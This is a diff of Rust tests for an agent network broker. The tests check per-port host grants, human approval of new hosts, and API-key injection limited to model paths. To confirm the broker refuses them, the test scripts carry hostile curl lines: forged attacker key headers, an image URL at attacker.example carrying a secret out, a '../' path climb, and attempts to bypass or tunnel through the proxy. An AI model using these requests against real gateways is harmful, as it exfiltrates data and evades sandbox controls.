@@ -153,7 +153,7 @@ fn config(dir: &Path, grants: &str, extra: &str) -> PathBuf {
     path
 }
 
-fn grant(mode: &str, hosts: &[&str]) -> String {
+fn grant(mode: &str, hosts: &[&String]) -> String {
     format!(
         "[[agent_grants]]\nid = \"loopback\"\nagent = \"c\"\ntool = \"http_fetch\"\nhosts = {hosts:?}\nmode = \"{mode}\"\n"
     )
@@ -209,16 +209,26 @@ async fn only_hosts_the_broker_allows_are_reached() {
     std::fs::create_dir_all(&served).unwrap();
     let marker = common::project::random_marker();
     served_repository(&served, &marker);
-    // The granted host is 127.0.0.2, named literally; 127.0.0.1 is not granted, and the name
-    // `localhost` is, though what it resolves to is an internal address no grant names.
+    // The granted host and port are 127.0.0.2:<a>, named literally; 127.0.0.1 is not granted,
+    // nor is 127.0.0.2 on another port, and the name `localhost` is, though what it resolves
+    // to is an internal address no grant names.
     let granted = Origin::serve("127.0.0.2", "granted", Some(served)).await;
     let other = Origin::serve("127.0.0.1", "other", None).await;
-    let (a, b) = (granted.port, other.port);
-    let cfg = config(dir.path(), &grant("auto", &["127.0.0.2", "localhost"]), "");
+    let other_port = Origin::serve("127.0.0.2", "other port", None).await;
+    let (a, b, c) = (granted.port, other.port, other_port.port);
+    let cfg = config(
+        dir.path(),
+        &grant(
+            "auto",
+            &[&format!("127.0.0.2:{a}"), &format!("localhost:{b}")],
+        ),
+        "",
+    );
     let script = [
         "export HOME=/tmp".to_owned(),
         curl("granted", &format!("http://127.0.0.2:{a}/granted")),
         curl("ungranted", &format!("http://127.0.0.1:{b}/ungranted")),
+        curl("port", &format!("--proxytunnel http://127.0.0.2:{c}/port")),
         curl("direct", &format!("--noproxy '*' http://127.0.0.2:{a}/direct")),
         curl("tunnel", &format!("--proxytunnel http://127.0.0.2:{a}/tunnel")),
         curl("named", &format!("http://localhost:{b}/named")),
@@ -267,6 +277,11 @@ async fn only_hosts_the_broker_allows_are_reached() {
         granted.requests()
     );
     assert!(other.lines().is_empty(), "{:?}", other.lines());
+    assert!(
+        said(&out, "port").contains("CONNECT tunnel failed, response 403"),
+        "{out}"
+    );
+    assert!(other_port.lines().is_empty(), "{:?}", other_port.lines());
 }
 
 /// The binary under `ask`, answering its prompts from a script of lines.
@@ -337,20 +352,30 @@ impl Prompted {
     }
 }
 
-/// An `ask` grant puts each new host to the run's principal: a no is never reached, a yes
-/// is, and a host already approved in the run is not asked about again.
+/// An `ask` grant puts each new host and port to the run's principal, one question at a
+/// time: a no is never reached and holds for the run (not asked again), a yes is reached and
+/// holds for that host and port alone.
 #[tokio::test(flavor = "multi_thread")]
 async fn an_ask_is_put_to_the_runs_principal_and_only_a_yes_reaches_the_host() {
     let dir = tempfile::tempdir().unwrap();
-    let origin = Origin::serve("127.0.0.1", "asked", None).await;
-    let a = origin.port;
-    let cfg = config(dir.path(), &grant("ask", &["127.0.0.1"]), "");
+    let refused = Origin::serve("127.0.0.1", "refused", None).await;
+    let approved = Origin::serve("127.0.0.1", "approved", None).await;
+    let (a, b) = (refused.port, approved.port);
+    let cfg = config(
+        dir.path(),
+        &grant(
+            "ask",
+            &[&format!("127.0.0.1:{a}"), &format!("127.0.0.1:{b}")],
+        ),
+        "",
+    );
     let script = [
         curl("first", &format!("http://127.0.0.1:{a}/first")),
-        curl("second", &format!("http://127.0.0.1:{a}/second")),
+        curl("again", &format!("http://127.0.0.1:{a}/again")),
+        curl("second", &format!("http://127.0.0.1:{b}/second")),
         curl(
             "third",
-            &format!("--proxytunnel http://127.0.0.1:{a}/third"),
+            &format!("--proxytunnel http://127.0.0.1:{b}/third"),
         ),
     ]
     .join("");
@@ -358,8 +383,7 @@ async fn an_ask_is_put_to_the_runs_principal_and_only_a_yes_reaches_the_host() {
         let mut p = Prompted::start(&cfg, &script);
         p.answer(1, "n\n");
         p.answer(2, "y\n");
-        let (out, err) = p.finish();
-        (out, err)
+        p.finish()
     })
     .await
     .unwrap();
@@ -367,17 +391,24 @@ async fn an_ask_is_put_to_the_runs_principal_and_only_a_yes_reaches_the_host() {
         said(&out, "first").contains("needs a person's approval: refused"),
         "{out}"
     );
-    assert_eq!(said(&out, "second"), "origin asked", "{out}\n{err}");
-    assert_eq!(said(&out, "third"), "origin asked", "{out}\n{err}");
-    assert_eq!(err.matches("Allow? [y/N]").count(), 2, "{err}");
     assert!(
-        err.contains("the agent asks to net.fetch (http_fetch {\"url\":\"http://127.0.0.1:"),
+        said(&out, "again").contains("earlier in this run; not asked again"),
+        "{out}"
+    );
+    assert_eq!(said(&out, "second"), "origin approved", "{out}\n{err}");
+    assert_eq!(said(&out, "third"), "origin approved", "{out}\n{err}");
+    assert_eq!(err.matches("Allow? [y/N]").count(), 2, "{err}");
+    // The approver is shown the host and port a yes allows, not a path.
+    assert!(
+        err.contains(&format!(
+            "the agent asks to net.fetch (http_fetch {{\"url\":\"http://127.0.0.1:{b}/\"}})"
+        )),
         "{err}"
     );
+    assert!(refused.lines().is_empty(), "{:?}", refused.lines());
     assert_eq!(
-        origin.lines(),
-        ["GET /second HTTP/1.1", "GET /third HTTP/1.1"],
-        "the refused request never reached the host"
+        approved.lines(),
+        ["GET /second HTTP/1.1", "GET /third HTTP/1.1"]
     );
 }
 
@@ -401,9 +432,17 @@ async fn the_model_endpoint_gets_the_real_key_on_its_api_paths_only() {
         "echo \"key: $ANTHROPIC_API_KEY\"\necho \"base: $ANTHROPIC_BASE_URL\"\n".to_owned(),
         curl(
             "api",
-            "-X POST -H 'x-api-key: sk-attacker' -H 'authorization: Bearer sk-attacker' -d '{\"m\":1}' \"$ANTHROPIC_BASE_URL/v1/messages?beta=true\"",
+            "-X POST -H 'x-api-key: sk-attacker' -H 'authorization: Bearer sk-attacker' -H 'x-litellm-api-key: sk-attacker' -H 'anthropic-version: 2023-06-01' -d '{\"m\":1}' \"$ANTHROPIC_BASE_URL/v1/messages?beta=true\"",
         ),
         curl("files", "-X POST -d 'data' \"$ANTHROPIC_BASE_URL/v1/files\""),
+        curl(
+            "fetched",
+            "-X POST -d '{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/?d=secret\"}}]}]}' \"$ANTHROPIC_BASE_URL/v1/messages\"",
+        ),
+        curl(
+            "serverside",
+            "-X POST -d '{\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}],\"messages\":[]}' \"$ANTHROPIC_BASE_URL/v1/messages\"",
+        ),
         curl("climb", "--path-as-is \"$ANTHROPIC_BASE_URL/v1/messages/../upload\""),
         curl("direct", &format!("http://127.0.0.1:{m}/upload")),
         curl("tunnel", &format!("--proxytunnel http://127.0.0.1:{m}/v1/messages")),
@@ -442,6 +481,12 @@ async fn the_model_endpoint_gets_the_real_key_on_its_api_paths_only() {
         said(&out, "tunnel").contains("CONNECT tunnel failed, response 403"),
         "{out}"
     );
+    for asks_the_provider_to_fetch in ["fetched", "serverside"] {
+        assert!(
+            said(&out, asks_the_provider_to_fetch).contains("the model request is refused"),
+            "{out}"
+        );
+    }
     let requests = model.requests();
     assert_eq!(
         requests.len(),
@@ -458,6 +503,10 @@ async fn the_model_endpoint_gets_the_real_key_on_its_api_paths_only() {
         "{request}"
     );
     assert!(!request.contains("sk-attacker"), "{request}");
+    assert!(
+        request.contains("anthropic-version: 2023-06-01"),
+        "{request}"
+    );
     assert!(request.ends_with("{\"m\":1}"), "{request}");
 }
 
@@ -471,7 +520,7 @@ async fn with_nobody_to_ask_a_host_is_refused_at_once_and_mcp_stays_reachable() 
     let a = origin.port;
     let cfg = config(
         dir.path(),
-        &grant("ask", &["127.0.0.1"]),
+        &grant("ask", &[&format!("127.0.0.1:{a}")]),
         "[mcp]\nenabled = true\n[grants.\"http:ops\"]\nactions = [\"runs:read\", \"agent:run:*\"]\nchannels = [\"http:ops\"]\n",
     );
     let mut cmd = switchboard(&cfg);
